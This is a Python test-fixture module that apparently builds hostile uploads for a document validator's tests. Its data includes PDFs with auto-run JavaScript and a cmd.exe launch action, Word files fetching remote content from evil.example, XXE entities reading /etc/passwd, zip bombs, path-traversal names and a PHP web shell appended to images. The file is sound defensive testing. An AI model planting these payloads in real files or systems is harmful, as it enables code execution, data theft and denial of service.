"""Files that are not what they seem, made here byte by byte: none lies in the repository for a scanner to find."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache
from pathlib import PurePosixPath
from typing import Any

from tests.unit.documents.packages import MAIN_TYPE, document, package, paragraph, relationships, types
from tools import sample_proofs

MEBIBYTE = 1024 * 1024
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
LIMIT = 25 * MEBIBYTE
SCRIPT = b"<script>alert(document.domain)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + rb"TEST-FILE!$H+H*"
_SAID: Mapping[str, Any] = {"customer": "Alpine", "products": ["Microsoft Teams"]}
_RELATIONS = "word/_rels/document.xml.rels"


def a_pdf(
    *,
    catalogue: str = "",
    page: str = "",
    fourth: str = "<<>>",
    packed: bool = False,
    comment: bytes = b"",
    stream: bytes | None = None,
) -> bytes:
    """A PDF of one page, with more in its catalogue, its page and its fourth object.

    `packed` keeps every object but streams in an object stream, where a search of the bytes does not find it.
    """
    objects = {
        1: f"<</Type/Catalog/Pages 2 0 R{catalogue}>>".encode(),
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]{page}>>".encode(),
        4: fourth.encode(),
    }
    out = bytearray(b"%PDF-1.7\n" + (b"%" + comment + b"\n" if comment else b""))
    places: dict[int, tuple[int, int, int]] = {}
    if stream is not None:
        objects[5] = b"<</Length %d>>\nstream\n%b\nendstream" % (len(stream), stream)
    inside = {number: objects.pop(number) for number in (1, 2, 3, 4)} if packed else {}
    if inside:
        index, bodies = b"", b""
        for place, (number, body) in enumerate(inside.items()):
            index += b"%d %d " % (number, len(bodies))
            bodies += body + b" "
            places[number] = (2, 6, place)
        folded = zlib.compress(index + bodies)
        head = b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>" % (len(inside), len(index), len(folded))
        objects[6] = head + b"\nstream\n" + folded + b"\nendstream"
    for number, body in objects.items():
        places[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), 8
    if packed:
        places[7] = (1, start, 0)
        rows = b"".join(struct.pack(">BIH", *places.get(number, (0, 0, 0))) for number in range(size))
        head = b"<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>" % (size, len(rows))
        out += b"7 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (head, rows)
    else:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % places[number][1] if number in places else b"0000000000 65535 f \n"
        out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % size
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


_RUNS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTIVE: Mapping[str, Mapping[str, Any]] = {
    "script on opening": {"catalogue": "/OpenAction 4 0 R", "fourth": _RUNS},
    "script by name": {"catalogue": "/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "fourth": _RUNS},
    "script behind a jump": {"catalogue": f"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next {_RUNS}>>"},
    "script in a spelt name": {"catalogue": "/Open#41ction<</#53/Java#53cript/J#53(app.alert\\(1\\))>>"},
    "address on opening": {"catalogue": "/OpenAction<</S/URI/URI(https://evil.example)>>"},
    "program": {"catalogue": "/OpenAction<</S/Launch/F(cmd.exe)>>"},
    "page's own action": {"page": f"/AA<</O {_RUNS}>>"},
    "file inside": {"catalogue": "/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "fourth": "<</Type/Filespec/F(a)>>"},
    "file pinned to the page": {"page": "/Annots[4 0 R]", "fourth": "<</Subtype/FileAttachment/FS<</F(a)>>>>"},
    "form of another kind": {"catalogue": "/AcroForm<</Fields[]/XFA(<xdp/>)>>"},
    "form that is sent": {
        "page": "/Annots[4 0 R]",
        "fourth": "<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>",
    },
}


def active_pdfs() -> dict[str, bytes]:
    """Each way of a PDF to do something, in plain objects and in an object stream."""
    made = {name: a_pdf(**more) for name, more in ACTIVE.items()}
    return made | {f"{name}, packed": a_pdf(**more, packed=True) for name, more in ACTIVE.items()}


def active_documents() -> dict[str, bytes]:
    """Word documents that fetch or hold something else."""
    away = 'TargetMode="External"'
    return {
        "a template elsewhere": _related("attachedTemplate", "https://evil.example/t.dotm", away),
        "an object elsewhere": _related("oleObject", "https://evil.example/o", away),
        "an object inside": _related(
            "oleObject", "embeddings/oleObject1.bin", "", **{"word/embeddings/oleObject1.bin": b"x"}
        ),
        "a frame elsewhere": _related("frame", "file://evil.example/share/x", away),
    }


def _related(kind: str, target: str, mode: str, **parts: bytes) -> bytes:
    return package(parts={_RELATIONS: relationships(kind, target, mode), **parts})


def a_zip(**members: bytes) -> bytes:
    """An archive that is no document."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def png_with(chunk: bytes, *, behind: bytes = b"") -> bytes:
    """A picture with a text chunk of these bytes, and more behind its end."""
    plain = sample_proofs.picture("PNG")
    body = b"tEXt" + b"Comment\0" + chunk
    told = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    return plain[:33] + told + plain[33:] + behind


def jpeg_with(comment: bytes, *, behind: bytes = b"") -> bytes:
    """A picture with that comment, and more behind its end."""
    plain = sample_proofs.picture("JPEG")
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + plain[2:] + behind


def _lying(content: bytes, place: int, told: bytes) -> bytes:
    """The archive with other bytes in the record of its directory's end, counted from there."""
    changed = bytearray(content)
    start = len(content) - 22 + place
    changed[start : start + len(told)] = told
    return bytes(changed)


def _small_by_its_word() -> bytes:
    """A document whose directory says that its bomb is small."""
    content = bytearray(package(parts={"word/bomb.xml": bytes(30 * MEBIBYTE)}))
    name = content.rfind(b"word/bomb.xml")
    struct.pack_into("<L", content, name - 46 + 24, 10)
    return bytes(content)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
DECLARED: Mapping[str, str] = {
    "billion laughs": f'<!DOCTYPE d [<!ENTITY l0 "lol">{LAUGHS}]>',
    "entity from a file": '<!DOCTYPE d [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>',
    "entity from elsewhere": '<!DOCTYPE d [<!ENTITY l11 SYSTEM "http://127.0.0.1:9/x">]>',
    "declarations from elsewhere": '<!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd" [<!ENTITY l11 "x">]>',
    "parameter entity": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p; <!ENTITY l11 "x">]>',
}


def declared_documents() -> dict[str, bytes]:
    """Documents whose text is declared in ways that XML knows and no Word program writes."""
    said = document(paragraph("&l11;"))
    made = {name: package(parts={"word/document.xml": head + said}) for name, head in DECLARED.items()}
    listed = types(("word/document.xml", MAIN_TYPE)).replace('"?>', f'"?>{DECLARED["billion laughs"]}', 1)
    return made | {"billion laughs in the list of types": package(parts={"[Content_Types].xml": listed})}


@cache
def refused() -> dict[str, tuple[bytes, str]]:
    """What may not pass, and the code that says why."""
    pdf, word = sample_proofs.pdf_proof(**_SAID), package()
    return {
        "nothing": (b"", "poe-empty"),
        "one byte too many": (a_pdf(stream=bytes(LIMIT))[: LIMIT + 1], "poe-too-large"),
        "PDF and zip": (pdf + a_zip(a=b"x"), "poe-type"),
        "PDF and Word": (pdf + word, "poe-type"),
        "PDF and zip, ended again": (pdf + a_zip(a=b"x") + b"\n%%EOF\n", "poe-type"),
        "page, then PDF": (SCRIPT + pdf, "poe-type"),
        "PDF, then page": (pdf + SCRIPT, "poe-unreadable"),
        "PNG, then PHP": (png_with(b"x", behind=b"<?php system($_GET[0]); ?>"), "poe-unreadable"),
        "JPEG, then script": (jpeg_with(b"x", behind=b"*/alert(1)//"), "poe-unreadable"),
        "JPEG, then zip": (jpeg_with(b"x", behind=a_zip(a=b"x")), "poe-unreadable"),
        "GIF and JAR": (b"GIF89a" + bytes(20) + a_zip(**{"META-INF/MANIFEST.MF": b"x"}), "poe-type"),
        "JAR": (a_zip(**{"META-INF/MANIFEST.MF": b"x"}), "poe-type"),
        "drawing": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "poe-type"),
        "page": (b"<!doctype html>" + SCRIPT, "poe-type"),
        "program": (sample_proofs.program(), "poe-type"),
        "EICAR": (EICAR, "poe-type"),
        "EICAR, zipped": (a_zip(eicar=EICAR), "poe-type"),
        "macros": (sample_proofs.macro_docx(), "poe-type"),
        "locked PDF": (sample_proofs.encrypted_pdf(**_SAID), "poe-unreadable"),
        "cut PDF": (pdf[: len(pdf) // 2], "poe-unreadable"),
        "cut Word": (word[: len(word) // 2], "poe-unreadable"),
        "cut PNG": (sample_proofs.picture("PNG")[:-20], "poe-unreadable"),
        "cut JPEG": (sample_proofs.picture("JPEG")[:-20], "poe-unreadable"),
        "bomb": (sample_proofs.bomb_docx(), "poe-unreadable"),
        "bomb that says it is small": (_small_by_its_word(), "poe-unreadable"),
        "many small bombs": (package(parts={f"word/{n}.xml": bytes(MEBIBYTE) for n in range(60)}), "poe-unreadable"),
        "outsize directory": (_lying(word, 12, b"\xff\xff\xff\x7f"), "poe-unreadable"),
        "65,535 entries": (_lying(word, 8, b"\xff\xff\xff\xff"), "poe-unreadable"),
        "picture of 4 GB": (_vast_png(), "poe-unreadable"),
    }


def _vast_png() -> bytes:
    plain = sample_proofs.picture("PNG")
    header = b"IHDR" + struct.pack(">II", 65_000, 65_000) + plain[24:29]
    return plain[:12] + header + struct.pack(">I", zlib.crc32(header)) + plain[33:]


@cache
def admitted() -> dict[str, tuple[bytes, str]]:
    """What passes as what it is by its first byte, and harms nobody as long as nobody takes it for something else."""
    pdf, png, jpeg, word = (
        "application/pdf",
        "image/png",
        "image/jpeg",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    )
    made = {
        "PDF with a page in a comment": (a_pdf(comment=SCRIPT), pdf),
        "PDF with EICAR inside": (a_pdf(stream=EICAR), pdf),
        "PNG with PHP in its text": (png_with(b"<?php system($_GET[0]); ?>" + SCRIPT), png),
        "JPEG with script in its comment": (jpeg_with(b"*/=1;alert(1);/*" + SCRIPT), jpeg),
        "Word with EICAR inside": (package(parts={"word/media/image1.png": EICAR}), word),
        "Word with names that climb": (package(parts={"../../../etc/cron.d/x": b"x", "/etc/passwd": b"x"}), word),
        "Word with an archive in an archive": (
            package(parts={"word/a.zip": a_zip(b=a_zip(c=bytes(40 * MEBIBYTE)))}),
            word,
        ),
    }
    made |= {f"PDF: {name}": (content, pdf) for name, content in active_pdfs().items()}
    made |= {f"Word: {name}": (content, word) for name, content in active_documents().items()}
    return made


ENDINGS = {
    "application/pdf": {".pdf"},
    "image/png": {".png"},
    "image/jpeg": {".jpg", ".jpeg"},
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document": {".docx"},
}


def ends_rightly(name: str, content_type: str) -> bool:
    """Whether a program that goes by names takes the file for what it is."""
    return PurePosixPath(name).suffix.lower() in ENDINGS[content_type]
